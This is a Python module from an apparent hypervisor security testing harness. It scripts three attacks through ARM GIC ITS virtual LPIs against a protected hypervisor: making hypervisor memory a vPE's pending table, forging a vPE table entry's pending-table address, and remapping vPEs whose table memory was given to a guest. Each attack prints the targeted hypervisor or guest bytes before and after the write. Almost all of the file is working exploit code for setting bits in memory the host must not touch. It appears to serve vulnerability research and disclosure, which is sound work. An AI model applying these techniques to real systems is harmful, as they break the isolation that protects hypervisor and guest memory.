"""Attacks through virtual LPIs: A6 and the forged vPE table entry of the mail, and virtual commands that nobody checks.

A vPE's table entry names its virtual pending table. Hardware sets one bit there for each virtual interrupt: "not as generous" as
a forged device table entry, in the words of the mail, but a write all the same.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Final

from itsbox.arch.its_commands import INT, VMAPTI, VMOVI, VMOVP, VSYNC
from itsbox.arch.its_registers import TABLE_VPES
from itsbox.arch.its_tables import VTE
from itsbox.arch.values import FIRST_LPI, SIZE_64K

if TYPE_CHECKING:
    from itsbox.host.attacks import HostileHost

__all__ = ["forged_vte", "unchecked_virtual", "vpt_in_hyp"]

_DEVICE: Final = 0xE0
_VINTID: Final = FIRST_LPI + 0x24
_OTHER: Final = FIRST_LPI + 0x29
"""Virtual INTIDs whose bits are clear in the victims' pages, so that a bit that is set is seen to be set."""
_VPT_PAGES: Final = 16
_VPT_SIZE: Final = 15


def _raise(host: HostileHost, device_id: int, vpe_id: int, event_id: int = 0, vintid: int = _VINTID) -> None:
    """Map an event to a virtual LPI of a vPE and make it pending."""
    host.post(
        VMAPTI(device_id=device_id, event_id=event_id, vpe_id=vpe_id, virtual_intid=vintid, doorbell_intid=1023),
        INT(device_id=device_id, event_id=event_id),
    )
    host.msi(device_id, event_id)


def vpt_in_hyp(host: HostileHost) -> None:
    """A6: VMAPP names hypervisor memory as virtual pending table; a virtual LPI sets a bit in it."""
    victim = host.hyp_page(14)
    at = victim + _VINTID // 8
    host.show("The victim: the byte with the virtual LPI's bit, before.", at, 4)
    host.map_own(_DEVICE)
    host.say("Map a vPE whose pending table is the hypervisor's memory, then one whose table is a guest's.")
    host.vmapp(6, victim)
    host.vmapp(7, host.guest_page(5))
    host.say("Map an event to a virtual LPI of it, and make that pending.")
    _raise(host, _DEVICE, 6)
    _raise(host, _DEVICE, 7, 1)
    host.show("The same byte, after.", at, 4)


def forged_vte(host: HostileHost) -> None:
    """The mail's second attack: the host edits a vPE table entry; raising an interrupt sets one bit where it points."""
    victim = host.hyp_page(14)
    at = victim + _OTHER // 8
    host.map_own(_DEVICE + 1)
    host.say("Map a vPE honestly, so that there is an entry.")
    host.vmapp(8, host.pages(_VPT_PAGES, SIZE_64K))
    entry = host.table_entry(TABLE_VPES, 8)
    host.show("The victim: the byte with the virtual LPI's bit, before.", at, 4)
    if entry is None:
        return
    host.say("Edit the entry: VPT_base is now the hypervisor's memory.")
    host.store(entry, VTE.STRUCT.pack(*VTE(valid=1, vpt_size=_VPT_SIZE, vpt_addr=victim, rd_base=0).encode()))
    host.say("Raise a virtual interrupt: one bit, chosen by its vINTID, is set there.")
    _raise(host, _DEVICE + 1, 8, 0, _OTHER)
    host.show("The same byte, after: one bit.", at, 4)


def unchecked_virtual(host: HostileHost) -> None:
    """Virtual commands that are let through unlooked at: unmapped vPEs, remapped ones, tables given away in between."""
    host.map_own(_DEVICE + 2)
    vpt = host.pages(_VPT_PAGES, SIZE_64K)
    host.say("Map a vPE honestly, then give the memory of its pending table to a guest.")
    host.vmapp(9, vpt)
    for page in range(_VPT_PAGES):
        host.hvc("__pkvm_host_unshare_hyp", (vpt >> 12) + page)
    host.give_away(vpt, _VPT_PAGES)
    host.say("Raise a virtual interrupt of it.")
    _raise(host, _DEVICE + 2, 9)
    host.say("Map the vPE again, elsewhere, in the hypervisor's memory; move it and its events.")
    host.vmapp(9, host.hyp_page(14))
    host.post(
        VMOVP(sequence_number=0, its_list=0, vpe_id=9, rd_base=1),
        VMOVI(device_id=_DEVICE + 2, event_id=0, vpe_id=10, d=0, doorbell_intid=1023),
        VSYNC(vpe_id=9),
    )
    _raise(host, _DEVICE + 2, 9, 2)
    host.say("A pending table shorter than the virtual INTIDs used with it.")
    host.vmapp(11, host.box.map.guest - SIZE_64K, size=31)
    _raise(host, _DEVICE + 2, 11, 3, FIRST_LPI + 0x8_0000)
    host.show("The page given to the guest, where the bit would be.", vpt + _VINTID // 8, 4)
